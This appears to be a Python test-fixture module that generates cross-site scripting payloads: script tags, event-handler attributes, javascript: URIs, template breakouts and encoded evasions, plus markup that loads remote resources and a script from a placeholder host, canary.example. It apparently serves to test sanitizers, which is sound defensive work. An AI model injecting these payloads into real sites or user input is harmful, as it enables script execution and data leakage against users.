"""Strings that would run as scripts, or fetch from elsewhere, wherever text became markup, a template or an address."""

from __future__ import annotations

from itertools import product

_CALL = ("alert(1)", "confirm`1`", "print()", "prompt(1)")
_ELSEWHERE = "http://canary.example"
_TAGS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>", "<details open ontoggle={}>", "<video><source onerror={}>", "<math><mi xlink:href='javascript:{}'>x",
    "<input autofocus onfocus={}>", "<marquee onstart={}>", "<object data='javascript:{}'>", "<a href='javascript:{}'>x</a>",
    '"><script>{}</script>', "'><img src=x onerror={}>", "--><script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>",
    "</style><script>{}</script>", "<scr<script>ipt>{}</script>", "<IMG SRC=x OnErRoR={}>", "<img/src=x/onerror={}>", "\" onmouseover={} x=\"",
    "' autofocus onfocus={} x='", "${{{}}}", "{{{{{}}}}}", "`${{{}}}`", "<%= {} %>", "#{{{}}}", "[[{}]]", "javascript:{}", "data:text/html,<script>{}</script>",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E",
    "<template><img src=x onerror={}></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>", "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={}>",
    "<x onclick={} style=position:fixed;inset:0>x",
)  # fmt: skip
_FETCHING = (
    "<img src={}/i.png>", "![x]({}/m.png)", "<link rel=stylesheet href={}/s.css>", "<style>@import '{}/c.css'</style>", "<p style='background:url({}/b.png)'>",
    "<meta http-equiv=refresh content='0;url={}'>", "<base href={}/>", "<iframe src={}></iframe>", "<form action={}><button>go</form>", "<video poster={}/v.png>",
    "<audio src={}/a.mp3 autoplay>", "<script src={}/x.js></script>", "<object data={}/o.swf>", "<embed src={}/e.swf>", "[x]: {}/r.png\n![x]", "<svg><image href={}/g.png>",
    "<input type=image src={}/t.png>", "<table background={}/k.png>", "<link rel=preconnect href={}>", "<img srcset='{}/ss.png 1x'>",
)  # fmt: skip

STRINGS = [
    *(tag.format(call) for tag, call in product(_TAGS, _CALL)),
    *(tag.format(_ELSEWHERE) for tag in _FETCHING),
    *(f"“{tag.format(_ELSEWHERE)}” said <b>{n}</b>" for n, tag in enumerate(_FETCHING)),
]
